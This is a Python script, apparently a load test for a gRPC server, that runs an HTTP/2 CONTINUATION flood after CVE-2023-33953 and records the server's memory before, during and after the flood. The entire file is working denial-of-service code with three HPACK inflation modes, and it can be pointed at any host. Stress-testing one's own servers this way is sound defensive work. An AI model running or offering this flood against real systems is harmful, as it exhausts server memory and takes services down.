#!/usr/bin/env python3
"""HTTP/2 CONTINUATION flood against a gRPC port, with the server's memory.

The attack (the pattern of CVE-2023-33953 in gRPC's HPACK parser): each
connection sends the HTTP/2 preface and SETTINGS, a HEADERS frame for stream 1
without END_HEADERS, then CONTINUATION frames of --frame_bytes and never ends
the header block. Two header blocks:

  long_value   one literal header whose value is longer than all the frames
               together, so the parser keeps every byte it has seen of it;
  many_headers complete small literal headers, one after another;
  indexed      one 4000-byte header added to the HPACK table, then one-byte
               references to it, each worth 4000 bytes of metadata.

With --pid, prints the server's VmRSS and VmHWM (KiB) before the attack, with
the connections open, and again --settle seconds after they are closed, as one
JSON line. Exit status 0 when the attack ran, whatever the memory did.

  bench/load/continuation_flood.py --port 50051 --pid $(pidof declutter-server) \
      --connections 10 --frames 500
"""

import argparse
import json
import socket
import struct
import sys
import time

from process_status import memory

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, SETTINGS, CONTINUATION = 0x1, 0x4, 0x9


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first_byte_flags):
    """An HPACK integer with an N-bit prefix (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value_length):
    """The start of a literal header without indexing, new name (0x00)."""
    return b"\x00" + hpack_int(len(name), 7, 0) + name + \
        hpack_int(value_length, 7, 0)


def request_start():
    """:method POST, :scheme http, :path, indexed or literal."""
    path = b"/declutter.v1.Declutter/Clean"
    return b"\x83\x86" + b"\x04" + hpack_int(len(path), 7, 0) + path


def blocks(mode, frames, frame_bytes):
    """The HEADERS payload, then each CONTINUATION payload."""
    if mode == "long_value":
        head = request_start() + literal(b"x-flood", frames * frame_bytes * 2)
        yield head
        for _ in range(frames):
            yield b"a" * frame_bytes
    elif mode == "indexed":
        # 0x40: literal with incremental indexing, new name; it becomes
        # dynamic table index 62, which 0xBE (indexed field 62) repeats.
        yield request_start() + b"\x40" + hpack_int(7, 7, 0) + b"x-flood" + \
            hpack_int(4000, 7, 0) + b"a" * 4000
        for _ in range(frames):
            yield b"\xbe" * frame_bytes
    else:
        one = literal(b"x-flood", 50) + b"a" * 50
        per_frame = max(1, frame_bytes // len(one))
        yield request_start()
        for _ in range(frames):
            yield one * per_frame


def attack(host, port, mode, frames, frame_bytes):
    sock = socket.create_connection((host, port), timeout=30)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    sent = 0
    closed_early = False
    try:
        for i, payload in enumerate(blocks(mode, frames, frame_bytes)):
            sock.sendall(frame(HEADERS if i == 0 else CONTINUATION, 0, 1,
                               payload))
            sent += len(payload)
    except OSError:
        closed_early = True
    return sock, sent, closed_early


def closed_by_peer(sock, wait):
    """True when the server closed (or reset) the connection within `wait` s."""
    sock.settimeout(wait)
    deadline = time.monotonic() + wait
    try:
        while time.monotonic() < deadline:
            if not sock.recv(65536):
                return True
    except socket.timeout:
        return False
    except OSError:
        return True
    return False


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--pid", type=int, default=0,
                        help="server process whose memory to report")
    parser.add_argument("--connections", type=int, default=10)
    parser.add_argument("--frames", type=int, default=500)
    parser.add_argument("--frame_bytes", type=int, default=16384)
    parser.add_argument("--mode", choices=["long_value", "many_headers", "indexed"],
                        default="long_value")
    parser.add_argument("--settle", type=float, default=2.0,
                        help="seconds to wait after closing before measuring")
    args = parser.parse_args()

    report = {"mode": args.mode, "connections": args.connections,
              "frames": args.frames, "frame_bytes": args.frame_bytes,
              "before": memory(args.pid)}
    socks, sent, early = [], 0, 0
    for _ in range(args.connections):
        sock, n, closed = attack(args.host, args.port, args.mode, args.frames,
                                 args.frame_bytes)
        socks.append(sock)
        sent += n
        early += closed
    time.sleep(args.settle)
    report["attacking"] = memory(args.pid)
    report["closed_by_server"] = sum(closed_by_peer(s, 1.0) for s in socks)
    report["closed_while_sending"] = early
    report["sent_bytes"] = sent
    for sock in socks:
        sock.close()
    time.sleep(args.settle)
    report["after_close"] = memory(args.pid)
    print(json.dumps(report))
    return 0


if __name__ == "__main__":
    sys.exit(main())
